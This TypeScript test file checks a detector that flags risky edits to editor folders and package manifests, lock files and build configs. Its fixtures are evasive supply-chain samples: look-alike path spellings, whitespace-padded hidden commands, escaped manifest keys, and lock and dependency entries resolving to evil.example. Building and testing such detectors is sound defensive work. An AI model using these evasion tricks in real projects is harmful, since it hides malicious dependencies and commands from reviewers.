import assert from 'node:assert/strict';
import { guardedChanges } from '../../../../src/domain/guarded/guardedChanges.ts';
import { folded } from '../../../../src/domain/guarded/catalogue/guardedChange.ts';
import { cpuMs } from '../../../support/cpuMs.ts';

const kindsOf = (path: string, after: string, before: string | null = null): readonly string[] =>
  guardedChanges([{ path, before, after }], []).map(({ kind }) => kind);

describe('guarded changes of a hostile file', () => {
  it('are found whatever the spelling of the path', () => {
    for (const path of [
      '.VsCode/x',
      'a/.vscode/x',
      '.vscode./x',
      '.vscode /x',
      '.vs\u00ADcode/x',
      '.vscode::$INDEX_ALLOCATION/x',
      '.git\u200Bmodules',
    ])
      assert.ok(
        kindsOf(path, '').some((kind) => kind !== 'name'),
        path,
      );
    assert.equal(folded('A/.ＶSCODE. '), 'a/.vscode');
  });

  it('are found behind lines that are longer than anyone reads', () => {
    const pad = ' '.repeat(3_000);
    assert.deepEqual(kindsOf('yarn.lock', `ms:\n  x "${pad}" resolved "https://evil.example/ms.tgz"\n`, ''), [
      'source',
    ]);
    assert.deepEqual(kindsOf('Gemfile', `gem 'a'${pad}; system('x')\n`, ''), ['source']);
  });

  it('are found in JSON with comments, a byte order mark, or escaped letters', () => {
    assert.deepEqual(kindsOf('package.json', '\uFEFF{"scr\\u0069pts": {"x": "sh x"}}', '{}'), ['script']);
    assert.deepEqual(kindsOf('tsconfig.json', '{ /* x */ "compilerOptions": { "plugins": [], }, }', '{}'), [
      'runner',
    ]);
    assert.deepEqual(kindsOf('package.json', '[]', '{}'), ['installer']);
  });

  it('are found in TOML behind texts over several lines, quoted and dotted keys, and lists', () => {
    const file = 'pyproject.toml';
    assert.deepEqual(kindsOf(file, '[project]\nname = "a"\n["project" . "scripts"]\nx = "x:y"\n', ''), [
      'script',
    ]);
    assert.deepEqual(
      kindsOf(file, "[build-system]\nx = \'\'\'\n[project.urls]\n\'\'\'\nrequires = []\n", ''),
      ['installer', 'installer'],
    );
    assert.deepEqual(
      kindsOf(file, '[project]\ndependencies = [\n  "a",\n  "b @ git+https://evil.example/b",\n]\n', ''),
      ['source'],
    );
    assert.deepEqual(kindsOf('Cargo.toml', '[dependencies]\na = { "g\\u0069t" = "x" }\n', ''), ['source']);
  });

  it('are found where a range of versions is a file', () => {
    for (const range of ['..', 'a.tgz', './a', 'a/b', 'workspace:../a', 'link:a'])
      assert.deepEqual(
        kindsOf('package.json', JSON.stringify({ dependencies: { a: range } }), '{}'),
        ['source'],
        range,
      );
    assert.deepEqual(
      kindsOf(
        'package.json',
        JSON.stringify({ overrides: { a: { b: '^1' } }, dependencies: { a: '>=1 <2 || 3.x' } }),
        '{}',
      ),
      [],
    );
  });

  it('are not mistaken for what was there before', () => {
    const lock = (host: string) => `a:\n  resolved "https://${host}/a/-/a-1.tgz"\n`;
    assert.deepEqual(
      kindsOf(
        'yarn.lock',
        `${lock('npm.corp.example')}${lock('npm.corp.example')}`,
        lock('npm.corp.example'),
      ),
      [],
    );
    assert.deepEqual(kindsOf('yarn.lock', lock('github.com/x/y.git'), lock('github.com/z/y.git')), [
      'source',
    ]);
    assert.ok(
      !JSON.stringify(
        guardedChanges([{ path: 'yarn.lock', before: '', after: lock('me:secret@evil.example') }], []),
      ).includes('secret'),
    );
  });

  it('take no long time, whatever the text', () => {
    const start = cpuMs();
    const texts = [
      '/* ',
      '"\\',
      '[',
      '"""',
      '{"a":',
      ',  ',
      'a!',
      '<a>',
      "gem 'a', ",
      'a.b.',
      '= [',
      '\\"',
    ].map((part) => part.repeat(10_000));
    for (const path of [
      'package.json',
      'tsconfig.json',
      'pyproject.toml',
      'setup.cfg',
      'requirements.txt',
      'pom.xml',
      'Gemfile',
      'yarn.lock',
      '.gitignore',
    ])
      for (const text of texts)
        guardedChanges(
          [
            { path, before: null, after: text },
            { path, before: text, after: text.replaceAll(' ', '\n') },
          ],
          [],
        );
    assert.ok(cpuMs() - start < 5_000, `${String(cpuMs() - start)} ms`);
  });
});
